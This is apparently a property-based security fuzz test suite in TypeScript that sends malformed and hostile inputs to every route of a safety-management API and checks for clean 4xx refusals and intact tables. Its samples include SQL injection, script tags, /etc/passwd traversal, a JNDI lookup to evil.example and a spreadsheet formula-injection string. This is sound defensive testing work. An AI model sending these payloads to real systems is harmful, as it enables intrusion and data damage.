import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { startTestSystem } from '../support/env';
import {
  checksumDiff,
  databaseChecksum,
  fetchOpenApi,
  HOSTILE_KEYS,
  HOSTILE_STRINGS,
  hostileBody,
  hostileJson,
  hostileParam,
  isWrite,
  label,
  LEAK,
  loginToken,
  operationsOf,
  RAW_PATH_SEGMENTS,
  refusalProblem,
  send,
  validValue,
  type OpenApiDoc,
  type Operation,
  type RawResponse,
} from './support';

/**
 * Property-based fuzzing of every route the live OpenAPI document lists (SPEC §6: "every write
 * is validated; bad input gets a clear 4xx error, never a 500 and never partial data").
 *
 * The system runs API-only (no worker), so nothing writes in the background: a table checksum
 * that changed across a batch of refused requests is a partial write.
 *
 *  - refused input: every write route, as an administrator and as an employee, gets bodies no
 *    schema accepts (malformed, wrong-typed, oversized, polluting, injection-shaped; hostile files
 *    and file names on the upload routes), hostile query strings and path parameters → a JSON 4xx
 *    with error.code, and no table changes;
 *  - hostile path parameters behind a valid body reach the handlers → a JSON 4xx, no table changes;
 *  - valid-shaped bodies with hostile free text, referring to existing (or no) units, people and
 *    users, reach the handlers → never a 5xx; when refused, no table changes;
 *  - read routes with hostile path and query parameters → never a 5xx;
 *  - a dictionary sweep gives every path parameter (and search parameter) each of the strings most
 *    likely to break a lookup, a LIKE or a Temporal visibility query;
 *  - targeted: schedule time zones (passed on to Temporal), and hostile text round-tripping as data.
 *
 * SECURITY_FUZZ_RUNS scales the number of runs per route (default 8) for a deeper local run.
 */
const RUNS = Number(process.env.SECURITY_FUZZ_RUNS ?? 8);

/** Valid requests of these wait for a worker (the probe's and the alert sweep's results): refused input is still fuzzed. */
const WAITS_FOR_WORKER = new Set(['POST /api/system/probes', 'POST /api/alert-rules/evaluate']);

interface Case {
  url: string;
  body?: string | Buffer;
  contentType?: string;
  headers?: Record<string, string>;
  note: string;
}

/** Percent-encodes a value for a URL unless it is one of the pre-encoded raw segments. */
const enc = (p: { value: string; raw: boolean }) => (p.raw ? p.value : encodeURIComponent(p.value));

function pathArb(op: Operation, hostile: boolean): fc.Arbitrary<string> {
  if (!op.pathParams.length) return fc.constant(op.path);
  return fc
    .array(hostile ? hostileParam : fc.constant({ value: '00000000-0000-4000-8000-000000000000', raw: false }), {
      minLength: op.pathParams.length,
      maxLength: op.pathParams.length,
    })
    .map((values) => {
      let i = 0;
      return op.path.replace(/\{\w+\}/g, () => enc(values[i++]));
    });
}

/** Documented query parameters with hostile values (repeats allowed), sometimes an undocumented or bracketed key. */
function hostileQueryArb(op: Operation): fc.Arbitrary<string> {
  const names = [...op.queryParams.map((q) => q.name), ...HOSTILE_KEYS.slice(0, 6), 'page[$gt]', 'pageSize[]', 'a[__proto__][polluted]'];
  return fc
    .array(fc.tuple(fc.constantFrom(...names), hostileParam), { maxLength: 4 })
    .map((pairs) => pairs.map(([k, v]) => `${encodeURIComponent(k)}=${enc(v)}`).join('&'));
}

/** The documented query parameters with valid values (required ones only). */
function validQuery(op: Operation): string {
  return op.queryParams
    .filter((q) => q.required)
    .map(
      (q) =>
        `${q.name}=${encodeURIComponent(
          String(
            validValue(
              { paths: {}, components: { schemas: {} } },
              q.schema,
              () => 'x',
              () => '00000000-0000-4000-8000-000000000000',
            ),
          ),
        )}`,
    )
    .join('&');
}

const withQuery = (path: string, qs: string) => (qs ? `${path}?${qs}` : path);

const CSV_COLUMNS = [
  'employeeNo',
  'name',
  'orgUnitCode',
  'email',
  'postCode',
  'code',
  'kind',
  'parentCode',
  'template',
  'date',
  'item',
  'score',
  'total',
  'inspector',
  'training',
  'person',
  'attended',
  'passed',
  'remark',
];
const csvCell = (s: string) => `"${s.replace(/"/g, '""')}"`;

/** File bodies no import or evidence upload may accept. */
function hostileFileArb(op: Operation): fc.Arbitrary<{ body: string | Buffer; contentType: string; note: string }> {
  const types = op.rawBody!;
  return fc.oneof(
    fc
      .tuple(fc.uint8Array({ maxLength: 4096 }), fc.constantFrom(...types))
      .map(([bytes, contentType]) => ({ body: Buffer.concat([Buffer.from('X'), Buffer.from(bytes)]), contentType, note: 'random bytes' })),
    fc.uint8Array({ maxLength: 2048 }).map((bytes) => ({
      body: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from(bytes)]),
      contentType: types.includes('text/csv') ? 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' : types[0],
      note: 'a corrupt zip (xlsx)',
    })),
    fc
      .tuple(fc.subarray(CSV_COLUMNS, { minLength: 1 }), fc.array(fc.constantFrom(...HOSTILE_STRINGS), { minLength: 1, maxLength: 40 }))
      .map(([cols, cells]) => ({
        body: `${cols.join(',')}\n${cols.map((_, i) => csvCell(cells[i % cells.length])).join(',')}\n${csvCell(cells[0])}`,
        contentType: types.includes('text/csv') ? 'text/csv' : types[0],
        note: 'CSV with hostile cells',
      })),
    hostileJson.map((text) => ({ body: text, contentType: 'application/json', note: 'JSON instead of a file' })),
    fc.constantFrom(
      { body: '', contentType: types[0], note: 'empty file' },
      { body: '<html><script>alert(1)</script></html>', contentType: 'text/html', note: 'wrong content type' },
      { body: 'a,b\n1,2', contentType: 'multipart/form-data; boundary=x', note: 'multipart instead of a raw file' },
      {
        body: Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0x00, 0xdc]),
        contentType: types.includes('text/csv') ? 'text/csv' : types[0],
        note: 'invalid UTF-8/UTF-16',
      },
    ),
  );
}

/** A request no route may accept. */
function refusedCaseArb(op: Operation): fc.Arbitrary<Case> {
  const fileName = fc.constantFrom(...RAW_PATH_SEGMENTS, ...HOSTILE_STRINGS.filter((s) => /^[\x20-\x7e]*$/.test(s) && s.length < 300));
  const body: fc.Arbitrary<{ body?: string | Buffer; contentType?: string; note: string; headers?: Record<string, string> }> = op.rawBody
    ? fc.tuple(hostileFileArb(op), fileName).map(([f, name]) => ({ ...f, headers: { 'x-file-name': name } }))
    : hostileBody(op).map((b) => ({ body: b.text, contentType: b.contentType, note: b.note }));
  return fc
    .tuple(pathArb(op, true), hostileQueryArb(op), body)
    .map(([path, qs, b]) => ({ url: withQuery(path, qs), body: b.body, contentType: b.contentType, headers: b.headers, note: b.note }));
}

/** A valid body (as far as the schema says) behind hostile path parameters: the handler looks them up. */
function hostilePathCaseArb(doc: OpenApiDoc, op: Operation): fc.Arbitrary<Case> {
  return fc.tuple(pathArb(op, true), fc.constantFrom(...HOSTILE_STRINGS)).map(([path, s]) => ({
    url: withQuery(path, validQuery(op)),
    ...(op.jsonBody ? { body: JSON.stringify(validValue(doc, op.jsonBody, () => s)), contentType: 'application/json' } : {}),
    note: 'valid body, hostile path',
  }));
}

/** Body fields that refer to org units, people or users (the rest are client-generated ids). */
const REFERENCE = /(orgUnitId|parentId|personId|userId|toUserId|userIds|participantIds|subjectId)$/i;

/**
 * A valid-shaped body with hostile free text; references (in the body and the path) are existing
 * org units, people and users (`pool`) or random ids, so handlers get past their lookups.
 */
function validShapedCaseArb(doc: OpenApiDoc, op: Operation, pool: readonly string[]): fc.Arbitrary<Case> {
  return fc
    .tuple(
      fc.shuffledSubarray([...HOSTILE_STRINGS], { minLength: 1 }),
      fc.array(fc.constantFrom(...pool, '00000000-0000-4000-8000-000000000000'), { minLength: 30, maxLength: 30 }),
    )
    .map(([strings, ids]) => {
      let s = 0;
      let i = 0;
      const id = (key = 'id') => (REFERENCE.test(key) || key === 'id' ? ids[i++ % ids.length] : randomUUID());
      return {
        url: withQuery(
          op.path.replace(/\{\w+\}/g, () => encodeURIComponent(id())),
          validQuery(op),
        ),
        body: JSON.stringify(validValue(doc, op.jsonBody!, () => strings[s++ % strings.length], id)),
        contentType: 'application/json',
        note: 'valid shape, hostile text',
      };
    });
}

/**
 * The strings most likely to break an id lookup or a search: every path parameter and every
 * free-text query parameter gets each of them (behind the prefix its pattern demands, if any).
 */
const SWEEP: readonly { value: string; raw: boolean }[] = [
  ...['\\', "'", '%', '_', '\u0000', ' ', '../../etc/passwd', "' OR 1=1 --", '💥', 'RiskAssessmentMonthly:', 'AssessmentCycle:monthly:'].map((value) => ({
    value,
    raw: false,
  })),
  ...['%ED%A0%80', '%'].map((value) => ({ value, raw: true })),
];

/** Searches (`LIKE`) and visibility queries: their wildcards, escapes and quotes. */
const LIKE_SWEEP = ['%', '_', '\\', "'"].map((value) => ({ value, raw: false }));

/** `^ImprovementPlan:` → `ImprovementPlan:`: the literal start a parameter's pattern demands. */
const prefixOf = (schema: { pattern?: string }) => /^\^([A-Za-z]+:)/.exec(schema.pattern ?? '')?.[1] ?? '';

/** Sends the requests `concurrency` at a time. */
async function inBatches<T>(items: readonly T[], concurrency: number, fn: (item: T) => Promise<void>): Promise<void> {
  for (let i = 0; i < items.length; i += concurrency) await Promise.all(items.slice(i, i + concurrency).map(fn));
}

const describeCase = (op: Operation, c: Case, r?: RawResponse) =>
  `${op.method} ${c.url.slice(0, 200)} [${c.note}]${c.headers ? ` headers=${JSON.stringify(c.headers)}` : ''} body=${String(c.body ?? '').slice(0, 160)}${r ? ` → ${r.status} ${r.text.slice(0, 300)}` : ''}`;

describe('hostile input', () => {
  let system: Awaited<ReturnType<typeof startTestSystem>>;
  let doc: OpenApiDoc;
  let ops: Operation[];
  const tokens: Record<string, string> = {};
  const stats = { requests: 0, routes: new Set<string>(), slowest: 0, accepted: new Set<string>() };

  const call = async (op: Operation, c: Case, user: string) => {
    stats.requests++;
    stats.routes.add(label(op));
    const r = await send(system.appUrl!, op.method, c.url, { token: tokens[user], body: c.body, contentType: c.contentType, headers: c.headers }).catch(
      (err: Error) => {
        throw new Error(`${describeCase(op, c)}: no answer (${err.name}: ${err.message})`);
      },
    );
    stats.slowest = Math.max(stats.slowest, r.ms);
    return r;
  };

  /** Runs the property (no shrinking: every run is a real request); returns the failing request's report, or null. */
  const check = async (arb: fc.Arbitrary<Case>, numRuns: number, predicate: (c: Case) => Promise<void>): Promise<string | null> => {
    let failure: string | null = null;
    const recorded = async (c: Case) => {
      try {
        await predicate(c);
      } catch (err) {
        failure = (err as Error).message;
        throw err;
      }
    };
    try {
      await fc.assert(fc.asyncProperty(arb, recorded), { numRuns, endOnFailure: true });
      return null;
    } catch (err) {
      return failure ?? (err as Error).message.slice(0, 500);
    }
  };

  beforeAll(async () => {
    system = await startTestSystem('api');
    doc = await fetchOpenApi(system.appUrl!);
    ops = operationsOf(doc);
    for (const u of ['admin', 'employee']) tokens[u] = await loginToken(system.appUrl!, u);
  }, 120_000);
  afterAll(async () => {
    await system?.stop();
    if (stats.requests) {
      const accepted = stats.accepted.size ? `; valid-shaped requests accepted (hostile text stored as data) by ${[...stats.accepted].join(', ')}` : '';
      console.warn(`[security fuzz] ${stats.requests} requests to ${stats.routes.size} routes; slowest answer ${stats.slowest} ms${accepted}`);
    }
  });

  it('finds every write route in the live OpenAPI document', () => {
    const writes = ops.filter(isWrite).map(label);
    expect(writes.length).toBeGreaterThanOrEqual(70);
    expect(writes).toEqual(
      expect.arrayContaining([
        'POST /api/hazards',
        'POST /api/tasks/{id}/complete',
        'POST /api/evidence',
        'POST /api/org/import',
        'DELETE /api/api-keys/{id}',
        'PUT /api/trainings/{id}/results',
      ]),
    );
  });

  it.each(['admin', 'employee'])(
    'as %s: input no route accepts is refused with a JSON 4xx and writes nothing',
    async (user) => {
      const failures: string[] = [];
      for (const op of ops.filter(isWrite)) {
        const before = await databaseChecksum(system.dataSource);
        const refused = await check(refusedCaseArb(op), user === 'admin' ? RUNS : Math.ceil(RUNS / 2), async (c) => {
          const r = await call(op, c, user);
          const problem = refusalProblem(r);
          if (problem) throw new Error(`${problem}: ${describeCase(op, c, r)}`);
        });
        if (refused) failures.push(`${label(op)}: ${refused}`);
        if (op.pathParams.length) {
          const path = await check(hostilePathCaseArb(doc, op), Math.ceil(RUNS / 2), async (c) => {
            const r = await call(op, c, user);
            const problem = refusalProblem(r);
            if (problem) throw new Error(`${problem}: ${describeCase(op, c, r)}`);
          });
          if (path) failures.push(`${label(op)}: ${path}`);
        }
        const changed = checksumDiff(before, await databaseChecksum(system.dataSource));
        if (changed.length) failures.push(`${label(op)}: refused requests changed ${changed.join(', ')}`);
      }
      expect(failures).toEqual([]);
      expect(Object.prototype).not.toHaveProperty('polluted');
      expect(Object.prototype).not.toHaveProperty('isAdmin');
    },
    300_000,
  );

  it('valid-shaped bodies with hostile text reach the handlers: never a 5xx, and a refusal writes nothing', async () => {
    const failures: string[] = [];
    const pool = (await Promise.all(['org_units', 'people', 'users'].map((t) => system.dataSource.query(`SELECT id FROM ${t}`))))
      .flat()
      .map((r: { id: string }) => r.id);
    let current = await databaseChecksum(system.dataSource);
    for (const op of ops.filter((o) => isWrite(o) && o.jsonBody && !WAITS_FOR_WORKER.has(label(o)))) {
      const failure = await check(validShapedCaseArb(doc, op, pool), Math.ceil(RUNS / 3), async (c) => {
        const r = await call(op, c, 'admin');
        const before = current;
        current = await databaseChecksum(system.dataSource);
        if (r.status < 300) {
          stats.accepted.add(label(op));
          return;
        }
        const problem = refusalProblem(r);
        if (problem) throw new Error(`${problem}: ${describeCase(op, c, r)}`);
        const changed = checksumDiff(before, current);
        if (changed.length) throw new Error(`refused with ${r.status} but changed ${changed.join(', ')}: ${describeCase(op, c, r)}`);
      });
      if (failure) failures.push(`${label(op)}: ${failure}`);
    }
    expect(failures).toEqual([]);
  }, 300_000);

  it('read routes: hostile path and query parameters get an answer or a JSON 4xx, never a 5xx', async () => {
    const failures: string[] = [];
    const reads = ops.filter((o) => o.method === 'GET' && (o.pathParams.length || o.queryParams.length));
    expect(reads.length).toBeGreaterThan(30);
    for (const op of reads) {
      const arb = fc.tuple(pathArb(op, true), hostileQueryArb(op)).map(([path, qs]) => ({ url: withQuery(path, qs), note: 'hostile read' }));
      const failure = await check(arb, Math.ceil(RUNS / 2), async (c) => {
        const r = await call(op, c, 'admin');
        if (r.status >= 500) throw new Error(`status ${r.status}: ${describeCase(op, c, r)}`);
        if (r.status >= 400) {
          const problem = refusalProblem(r);
          if (problem) throw new Error(`${problem}: ${describeCase(op, c, r)}`);
        }
        if (LEAK.test(r.text)) throw new Error(`leaks internals: ${describeCase(op, c, r)}`);
      });
      if (failure) failures.push(`${label(op)}: ${failure}`);
    }
    expect(failures).toEqual([]);
  }, 300_000);

  it('dictionary sweep: every path parameter and free-text query parameter, with each string most likely to break a lookup', async () => {
    const failures: string[] = [];
    const cases: { op: Operation; c: Case }[] = [];
    for (const op of ops) {
      for (const p of op.pathParams) {
        for (const v of SWEEP) {
          const prefix = prefixOf(p.schema);
          const value = { value: v.raw ? encodeURIComponent(prefix) + v.value : encodeURIComponent(prefix + v.value), raw: true };
          const path = op.path.replace(/\{(\w+)\}/g, (_, name: string) => (name === p.name ? value.value : '00000000-0000-4000-8000-000000000000'));
          const body = op.jsonBody ? { body: JSON.stringify(validValue(doc, op.jsonBody, () => 'security sweep')), contentType: 'application/json' } : {};
          cases.push({ op, c: { url: withQuery(path, validQuery(op)), ...body, note: `sweep ${p.name}` } });
        }
      }
      if (op.method !== 'GET') continue;
      for (const q of op.queryParams.filter((x) => x.schema.type === 'string' && !x.schema.enum && !x.schema.format)) {
        for (const v of LIKE_SWEEP)
          cases.push({
            op,
            c: {
              url: withQuery(
                op.path.replace(/\{\w+\}/g, '00000000-0000-4000-8000-000000000000'),
                `${validQuery(op) ? `${validQuery(op)}&` : ''}${q.name}=${enc(v)}`,
              ),
              note: `sweep ?${q.name}`,
            },
          });
      }
    }
    expect(cases.length).toBeGreaterThan(500);
    const before = await databaseChecksum(system.dataSource);
    await inBatches(cases, 6, async ({ op, c }) => {
      const r = await call(op, c, 'admin').catch((err: Error) => ({ error: err.message }));
      if ('error' in r) failures.push(r.error);
      else if (op.method !== 'GET' || r.status >= 400) {
        const problem = refusalProblem(r);
        if (problem) failures.push(`${problem}: ${describeCase(op, c, r)}`);
      } else if (LEAK.test(r.text)) failures.push(`leaks internals: ${describeCase(op, c, r)}`);
    });
    const changed = checksumDiff(before, await databaseChecksum(system.dataSource));
    expect(failures).toEqual([]);
    expect(changed).toEqual([]);
  }, 300_000);

  it('schedule time zones: unknown or hostile ones are a 400, odd spellings are canonicalised, never a 500 from Temporal', async () => {
    const plant = ((await system.dataSource.query("SELECT id FROM org_units WHERE code = 'DEMO-PLANT'")) as { id: string }[])[0].id;
    const admin = { token: tokens.admin, contentType: 'application/json' };
    for (const timeZone of ['Mars/Olympus_Mons', "' OR 1=1 --", '../../etc/passwd', '+01:00', 'UTC+8', '\u0000', '']) {
      for (const [url, body] of [
        ['/api/assessment-cycles/schedules', { scopeOrgUnitId: plant, cadence: 'weekly', paused: true, timeZone }],
        ['/api/risk-assessments/schedules', { area: 'Plant', orgUnitId: plant, paused: true, timeZone }],
      ] as const) {
        const r = await send(system.appUrl!, 'PUT', url, { ...admin, body: JSON.stringify(body) });
        expect([url, timeZone, r.status, refusalProblem(r), r.body?.error?.details]).toEqual([
          url,
          timeZone,
          400,
          null,
          [expect.objectContaining({ path: 'body.timeZone' })],
        ]);
      }
    }
    const risk = await send(system.appUrl!, 'PUT', '/api/risk-assessments/schedules', {
      ...admin,
      body: JSON.stringify({ area: 'Plant', orgUnitId: plant, paused: true, timeZone: 'asia/shanghai' }),
    });
    const cycle = await send(system.appUrl!, 'PUT', '/api/assessment-cycles/schedules', {
      ...admin,
      body: JSON.stringify({ scopeOrgUnitId: plant, cadence: 'weekly', paused: true, timeZone: 'europe/berlin' }),
    });
    try {
      // 201 created, or 200 changed (the valid-shaped fuzz may have made the plant's schedules already).
      expect([risk.status === 200 ? 201 : risk.status, (risk.body as unknown as { timeZone: string }).timeZone]).toEqual([201, 'Asia/Shanghai']);
      expect([200, 201]).toContain(cycle.status);
    } finally {
      for (const r of [risk, cycle]) {
        const id = (r.body as unknown as { scheduleId?: string }).scheduleId;
        if (id)
          await send(system.appUrl!, 'DELETE', `/api/${r === risk ? 'risk-assessments' : 'assessment-cycles'}/schedules/${encodeURIComponent(id)}`, {
            token: tokens.admin,
          });
      }
    }
  });

  it('hostile text is data: stored and answered exactly as sent, the tables intact', async () => {
    const samples = [
      "' OR 1=1 --",
      '"; DROP TABLE users; --',
      '<script>alert(1)</script>',
      '../../etc/passwd',
      '{"$gt": ""}',
      '${jndi:ldap://evil.example/a}',
      "=cmd|' /C calc'!A0",
      '%_\\!',
      'a\u0000b',
      '💥 \u202egnp.exe',
    ];
    for (const [i, name] of samples.entries()) {
      const created = await send(system.appUrl!, 'POST', '/api/inspections/templates', {
        token: tokens.admin,
        contentType: 'application/json',
        body: JSON.stringify({ code: `SEC-DATA-${i}`, name, items: [{ code: 'I1', title: name, maxScore: 10 }] }),
      });
      expect(created.status).toBe(201);
      const read = await send(system.appUrl!, 'GET', `/api/inspections/templates/${(created.body as unknown as { id: string }).id}`, { token: tokens.admin });
      expect(read.body).toMatchObject({ name, items: [{ title: name }] });
      const found = await send(system.appUrl!, 'GET', `/api/inspections/templates?q=${encodeURIComponent(name.trim().slice(0, 100))}`, { token: tokens.admin });
      expect((found.body as unknown as { items: { name: string }[] }).items.map((t) => t.name)).toContain(name);
    }
    expect(((await system.dataSource.query('SELECT COUNT(*) AS n FROM users')) as { n: string | number }[])[0].n).not.toBe(0);
  });
});
